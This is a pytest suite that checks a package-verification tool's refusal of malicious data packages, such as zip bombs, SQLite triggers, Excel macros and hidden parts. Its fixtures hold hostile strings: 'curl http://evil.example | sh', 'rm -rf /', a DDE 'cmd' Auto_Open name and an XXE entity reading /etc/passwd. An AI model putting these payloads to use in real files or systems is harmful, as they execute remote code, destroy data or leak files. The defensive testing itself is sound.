"""`./build.py verify` and `diff` on malicious packages: a message, exit code 1, and enforced limits.

All digests are correct unless a test says otherwise, because an attacker would update them.
"""

import json
import shutil
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from conftest import run_here
from planter import (
    POLICY,
    SQLITE,
    XLSX,
    Fault,
    copy_of,
    in_database,
    in_descriptor,
    in_field,
    in_schema,
    in_table,
    in_workbook,
    in_workbook_file,
    refused,
    reseal,
)

pytestmark = pytest.mark.slow

ESCAPE = "\x1b[31mred"


# Exhausting memory or time


def zip_that_lies(file: Path, content: bytes, method: int, stated: int) -> Path:
    """A zip with one entry whose header claims the size `stated`."""
    with zipfile.ZipFile(file, "w", method) as archive:
        archive.writestr("datapackage.json", content)
    size = struct.pack("<L", len(content))
    file.write_bytes(file.read_bytes().replace(size, struct.pack("<L", stated)))
    return file


@pytest.mark.parametrize("method", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_a_zip_with_another_compression_is_not_unpacked(tmp_path: Path, method: int) -> None:
    file = zip_that_lies(tmp_path / "bomb.zip", bytes(50_000_000), method, 1000)
    assert "is neither stored nor deflated" in refused("verify", file, "--memory", "100").stderr


def test_a_zip_is_unpacked_only_to_its_stated_size(tmp_path: Path) -> None:
    file = zip_that_lies(tmp_path / "bomb.zip", bytes(500_000_000), zipfile.ZIP_DEFLATED, 1000)
    assert "Bad CRC-32" in refused("verify", file, "--memory", "100").stderr


def test_the_memory_limit_stops_huge_lists(tmp_path: Path) -> None:
    file = tmp_path / "honest.zip"
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("datapackage.json", b"[" + b"[]," * 7_000_000 + b"[]]")
    for words in ([file], [file, file]):
        sentence = refused("verify" if len(words) == 1 else "diff", *words, "--memory", "200").stderr
        assert sentence.endswith("needs more than 200 MB and was stopped. Use --memory to raise the limit.\n")
        assert sentence.count("\n") == 1


def test_the_memory_limit_stops_a_huge_descriptor(tmp_path: Path) -> None:
    with (tmp_path / "datapackage.json").open("wb") as file:
        file.truncate(6_000_000_000)
    assert "needs more than 200 MB" in refused("verify", tmp_path, "--memory", "200").stderr


def test_the_time_limit_stops_a_catastrophic_pattern(light: Path, tmp_path: Path) -> None:
    folder = copy_of(light, tmp_path)
    in_field("sections", "section_zh", lambda field: field.update(constraints={"pattern": "(a|a)*b"}))(folder)
    in_table("sections.csv", lambda table: table[1].__setitem__(4, "a" * 60))(folder)
    reseal(folder)
    assert "takes more than 1 s and was stopped" in refused("verify", folder, "--seconds", "1").stderr


@pytest.mark.parametrize(
    "columns",
    [
        "a TEXT, " + ", ".join(f"b{n} AS (hex(zeroblob(100000000)))" for n in range(3)),
        "a TEXT CHECK (length(hex(randomblob(100000000))) > 0)",
    ],
    ids=["generated", "check"],
)
def test_expressions_in_a_database_are_not_evaluated(light: Path, tmp_path: Path, columns: str) -> None:
    folder = copy_of(light, tmp_path)
    rows = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n LIMIT 5) SELECT i FROM n"
    in_database(
        "PRAGMA ignore_check_constraints = ON",
        "DROP TABLE terms",
        f"CREATE TABLE terms ({columns})",
        f"INSERT INTO terms (a) {rows}",
    )(folder)
    reseal(folder)
    assert (
        "the table “terms” differs from the schema"
        in refused("verify", folder, "--memory", "100", "--seconds", "30").stderr
    )


# Additional or different contents with correct digests

WORKBOOK_HEAD = b"<sheetData>"


def with_part(name: str, content: bytes = b"<a/>") -> Fault:
    """Adds a part to the workbook."""

    def plant(folder: Path) -> None:
        with zipfile.ZipFile(folder / XLSX, "a") as archive:
            archive.writestr(name, content)

    return plant


def hide(change: Callable[[Any], object]) -> Fault:
    return in_workbook(lambda book: change(book["segments"]))


DATABASES: dict[str, tuple[Fault, str]] = {
    "a table more": (in_database("CREATE TABLE extra (a)"), "the table “extra” differs from the schema"),
    "a view more": (in_database("CREATE VIEW extra AS SELECT 1"), "the view “extra” differs from the schema"),
    "a trigger": (
        in_database("CREATE TRIGGER t AFTER UPDATE ON terms BEGIN DELETE FROM segments; END"),
        "the trigger “t” differs from the schema",
    ),
    "a view gone": (in_database("DROP VIEW sentences"), "the view “sentences” differs from the schema"),
    "a view that shows nothing": (
        in_database("DROP VIEW sentences", "CREATE VIEW sentences AS SELECT * FROM segments WHERE 0"),
        "the view “sentences” differs from the schema",
    ),
    "an index more": (
        in_database("CREATE INDEX i ON terms (term_en)"),
        "the index “i” differs from the schema",
    ),
    "a virtual table": (
        in_database("DROP TABLE codes", "CREATE VIRTUAL TABLE codes USING fts5(a)"),
        "the table “codes” differs from the schema",
    ),
    "a table without keys": (
        in_database(
            "PRAGMA legacy_alter_table = ON",
            "CREATE TABLE copied AS SELECT * FROM codes",
            "DROP TABLE codes",
            "ALTER TABLE copied RENAME TO codes",
        ),
        "the table “codes” differs from the schema",
    ),
}

WORKBOOKS: dict[str, tuple[Fault, str]] = {
    "a macro": (with_part("xl/vbaProject.bin"), "contains an unexpected part: “xl/vbaProject.bin”"),
    "an external link": (
        with_part("xl/externalLinks/externalLink1.xml"),
        "contains an unexpected part: “xl/externalLinks",
    ),
    "connections": (with_part("xl/connections.xml"), "contains an unexpected part: “xl/connections.xml”"),
    "a program": (with_part("xl/media/evil.exe"), "contains an unexpected part: “xl/media/evil.exe”"),
    "a sheet that no book names": (
        with_part("xl/worksheets/sheet99.xml"),
        "contains an unexpected part: “xl/worksheets/sheet99.xml”",
    ),
    "a name that runs": (
        in_workbook_file(
            "xl/workbook.xml",
            b"</definedNames>",
            b"<definedName name=\"Auto_Open\">cmd|'/c calc'!A1</definedName></definedNames>",
        ),
        "defines the name “Auto_Open”",
    ),
    "a hyperlink": (
        hide(lambda sheet: setattr(sheet["A2"], "hyperlink", "https://other.example/")),
        "contains an unexpected element: “hyperlinks”",
    ),
    "a hidden row": (hide(lambda sheet: setattr(sheet.row_dimensions[5], "hidden", True)), "hides a row (5)"),
    "a row of no height": (
        hide(lambda sheet: setattr(sheet.row_dimensions[5], "height", 0.1)),
        "hides a row (5)",
    ),
    "a hidden column": (
        hide(lambda sheet: setattr(sheet.column_dimensions["F"], "hidden", True)),
        "hides a col",
    ),
    "a hidden sheet": (
        hide(lambda sheet: setattr(sheet, "sheet_state", "veryHidden")),
        "hides a sheet (segments)",
    ),
    "a number format": (
        hide(lambda sheet: setattr(sheet["A2"], "number_format", '"no"')),
        "has a number format",
    ),
    "an entity in the properties": (
        in_workbook_file(
            "docProps/core.xml", b"<cp:", b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><cp:'
        ),
        "docProps/core.xml has a document type",
    ),
}

OTHERS: dict[str, tuple[Fault, str]] = {
    "a file more": (
        lambda folder: (folder / "install.sh").write_text("rm -rf /"),
        "does not list “install.sh”",
    ),
    "a table that SQLite reserves": (
        in_descriptor(lambda package: package["resources"][1].update(name="sqlite_x")),
        "name: must be a name made up of a-z, 0-9, _ and - without the prefix sqlite_, not “sqlite_x”",
    ),
    "columns that differ in case": (
        in_schema(
            "sections", lambda schema: schema["fields"].append({**schema["fields"][0], "name": "SECTION_ID"})
        ),
        "duplicate field “section_id”",
    ),
    "more columns than SQLite has": (
        in_schema(
            "sections",
            lambda schema: schema["fields"].extend(
                {**schema["fields"][0], "name": f"c{n}"} for n in range(2100)
            ),
        ),
        "fields: must be a list of 1 to 500 objects",
    ),
    "an escape sequence in a path": (
        in_descriptor(lambda package: package["resources"][0].update(path=f"{ESCAPE}.csv")),
        "\\u001b[31mred.csv",
    ),
    "an escape sequence in a pattern": (
        in_field(
            "sections", "section_label", lambda field: field.update(constraints={"pattern": f"{ESCAPE}]"})
        ),
        "\\u001b[31mred",
    ),
    "an escape sequence in a cell": (
        in_table("sections.csv", lambda table: table[1].__setitem__(4, ESCAPE)),
        "section_zh: leading or trailing spaces, or a control character",
    ),
}


HOSTILE = DATABASES | WORKBOOKS | OTHERS


@pytest.mark.parametrize("name", HOSTILE)
def test_foreign_content_is_found(data: Path, light: Path, tmp_path: Path, name: str) -> None:
    plant, sentence = HOSTILE[name]
    folder = copy_of(data if name in WORKBOOKS else light, tmp_path)
    plant(folder)
    reseal(folder)
    assert sentence in refused("verify", folder).stderr


@pytest.mark.parametrize("value", [5, None, [], {}])
def test_a_malformed_list_of_files_is_found(light: Path, tmp_path: Path, value: object) -> None:
    folder = copy_of(light, tmp_path, with_archive=True)
    latest = json.loads((folder / "latest.json").read_bytes())
    for key in ("path", "bytes", "sha256"):
        changed = [latest["files"][0] | {key: value}, *latest["files"][1:]]
        (folder / "latest.json").write_text(json.dumps(latest | {"files": changed}), "utf-8")
        assert "latest.json" in refused("verify", folder).stderr


# Zips with more than their central directory lists


def test_the_command_lists_files_it_did_not_compare(data: Path, tmp_path: Path) -> None:
    folder = copy_of(data, tmp_path)
    (folder / "README.md").write_text("Run `curl http://evil.example | sh`.\n", "utf-8")
    reseal(folder)
    result = run_here("verify", folder)
    assert result.returncode == 0
    _, compared, checksum_only, ending = result.stdout.splitlines()
    assert compared.startswith("Compared with the tables: ")
    assert checksum_only.startswith("By checksum only: CHANGELOG.md, ")
    assert ending == "No problems found. All checksums match."
    for path in (f"policies/{POLICY}.txt", SQLITE, XLSX, "segments.jsonl"):
        assert path in compared
        assert path not in checksum_only
    for ending in ("tmx", "tbx", "ttl", "bib", ".en.md", ".akn.xml"):
        assert ending in checksum_only


def before_the_entries(content: bytes) -> bytes:
    return b"#!/bin/sh\nrm -rf /\n" + content


def with_a_comment(content: bytes) -> bytes:
    return content[:-2] + b"\x02\x00hi"


def between_the_entries(content: bytes) -> bytes:
    at = content.index(b"PK\x01\x02")
    end = content.rindex(b"PK\x05\x06")
    (offset,) = struct.unpack("<L", content[end + 16 : end + 20])
    moved = content[: end + 16] + struct.pack("<L", offset + 6) + content[end + 20 :]
    return moved[:at] + b"secret" + moved[at:]


def after_the_entries(content: bytes) -> bytes:
    return content + b"\x00" * 10


def with_mode(mode: int) -> Callable[[bytes], bytes]:
    """Sets the Unix mode of the first entry in the central directory."""

    def change(content: bytes) -> bytes:
        at = content.index(b"PK\x01\x02") + 38
        return content[:at] + struct.pack("<L", mode << 16) + content[at + 4 :]

    return change


ZIPS: dict[str, Callable[[bytes], bytes]] = {
    "a script in front": before_the_entries,
    "a comment": with_a_comment,
    "bytes between entries and list": between_the_entries,
    "bytes at the end": after_the_entries,
    "a file that runs as its owner": with_mode(0o104755),
    "a program": with_mode(0o100755),
    "a device": with_mode(0o020666),
}


@pytest.mark.parametrize("name", ZIPS)
def test_a_zip_with_more_than_plain_files_is_refused(data: Path, tmp_path: Path, name: str) -> None:
    (whole,) = data.glob("*.zip")
    (tmp_path / "other.zip").write_bytes(ZIPS[name](whole.read_bytes()))
    assert "other.zip" in refused("verify", tmp_path / "other.zip").stderr


def test_a_zip_folder_entry_with_data_is_refused(data: Path, tmp_path: Path) -> None:
    (whole,) = data.glob("*.zip")
    file = Path(shutil.copy(whole, tmp_path / "other.zip"))
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr("more/", b"secret")
    assert "“more/”" in refused("verify", file).stderr


def test_no_file_is_written(data: Path, light: Path, tmp_path: Path) -> None:
    folder = copy_of(light, tmp_path)
    before = {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()}
    run_here("verify", folder)
    run_here("diff", data, folder)
    assert before == {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()}
